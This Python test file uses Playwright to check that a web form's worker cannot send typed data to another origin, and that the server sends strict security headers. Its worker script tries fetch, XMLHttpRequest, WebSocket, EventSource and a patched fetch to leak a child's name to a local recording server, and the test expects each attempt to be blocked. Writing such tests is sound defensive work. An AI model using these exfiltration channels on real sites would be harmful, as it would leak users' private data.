"""Nothing typed leaves the device, whatever runs in the worker (issue 16): the worker refuses
requests to other origins itself, and the server sends the policy as headers, so it reaches
the worker and forbids framing.

The other origin here is a real server on another port that records every request: a
request that left the browser would be seen.
"""

from __future__ import annotations

import http.server
import threading
import urllib.request
from collections.abc import Iterator
from email.message import Message
from typing import ClassVar

import pytest
from playwright.sync_api import Browser, Page, Route

from .test_runtime import wait_ready


class Recorder(http.server.BaseHTTPRequestHandler):
    seen: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        Recorder.seen.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(b"ok")

    do_POST = do_GET  # noqa: N815

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def other_origin() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def without_policy_header(route: Route) -> None:
    """As a host that sends no headers: the worker's script arrives with no policy."""
    response = route.fetch()
    kept = {k: v for k, v in response.headers.items() if k.lower() != "content-security-policy"}
    route.fulfill(response=response, headers=kept)


@pytest.fixture(params=["with the policy header", "on a host that sends no headers"])
def open_page(request: pytest.FixtureRequest, browser: Browser, base_url: str) -> Iterator[Page]:
    # No routing to other origins here: what the browser sends really goes out.
    ctx = browser.new_context(base_url=base_url, service_workers="block")
    if request.param != "with the policy header":
        ctx.route("**/assets/csprcore/worker.js*", without_policy_header)
    page = ctx.new_page()
    yield page
    ctx.close()


def test_the_worker_cannot_reach_another_origin(open_page: Page, other_origin: str) -> None:
    page = open_page
    page.goto("tools/referral-form/")
    wait_ready(page)
    (worker,) = [w for w in page.workers if "/assets/csprcore/worker.js" in w.url]
    Recorder.seen.clear()
    secret = f"{other_origin}/leak?child=Zo%C3%AB"
    outcomes = worker.evaluate(
        """async (url) => {
          const out = {};
          try { await fetch(url); out.fetch = "sent"; } catch (e) { out.fetch = "blocked"; }
          try { await fetch(new Request(url)); out.request = "sent"; }
          catch (e) { out.request = "blocked"; }
          try { const x = new XMLHttpRequest(); x.open("GET", url, false); x.send();
                out.xhr = "sent"; } catch (e) { out.xhr = "blocked"; }
          try { new WebSocket(url.replace("http", "ws")); out.ws = "sent"; }
          catch (e) { out.ws = "blocked"; }
          try { new EventSource(url); out.es = "sent"; } catch (e) { out.es = "blocked"; }
          try { self.fetch = () => 0; } catch (e) {}
          try { await self.fetch(url); out.restored = "sent"; }
          catch (e) { out.restored = "blocked"; }
          // Its own origin still works (the rule core's files come from it).
          out.own = (await fetch("../../pyodide/csprcore-runtime.json")).ok;
          return out;
        }""",
        secret,
    )
    assert outcomes == {"fetch": "blocked", "request": "blocked", "xhr": "blocked",
                        "ws": "blocked", "es": "blocked", "restored": "blocked",
                        "own": True}  # fmt: skip
    page.wait_for_timeout(500)
    assert Recorder.seen == []
    # The rule core still answers after all that.
    page.locator("[name='referrer.name']").fill("Zoë")
    page.get_by_role("button", name="Check your answers").click()
    page.locator("[data-error-summary]").wait_for()


def headers(url: str) -> tuple[Message, bytes]:
    """The response's headers (read case-insensitively) and its body."""
    with urllib.request.urlopen(url) as response:
        return response.headers, response.read()


@pytest.mark.parametrize(
    "path",
    ["", "tools/referral-form/", "assets/csprcore/worker.js", "pyodide/pyodide.asm.wasm",
     "sw.js", "404.html"],
)  # fmt: skip
def test_the_development_server_sends_the_policy(base_url: str, path: str) -> None:
    sent, body = headers(base_url + path)
    policy = sent["Content-Security-Policy"]
    assert "frame-ancestors 'none'" in policy
    assert "connect-src 'self'" in policy and "default-src 'self'" in policy
    assert "unsafe-eval" not in policy.replace("wasm-unsafe-eval", "")
    assert sent["X-Content-Type-Options"] == "nosniff"
    assert sent["Referrer-Policy"] == "no-referrer"
    assert "camera=()" in sent["Permissions-Policy"]
    if path.endswith(".wasm"):
        assert sent["Content-Type"] == "application/wasm"
    if path in ("", "tools/referral-form/", "404.html"):
        # A page's header carries the same hashes as its tag, so its inline scripts run.
        html = body.decode("utf-8")
        meta = html.split('http-equiv="Content-Security-Policy" content="', 1)[1].split('"')[0]
        assert policy.startswith(meta)
        assert sent["Cache-Control"] == "no-cache"
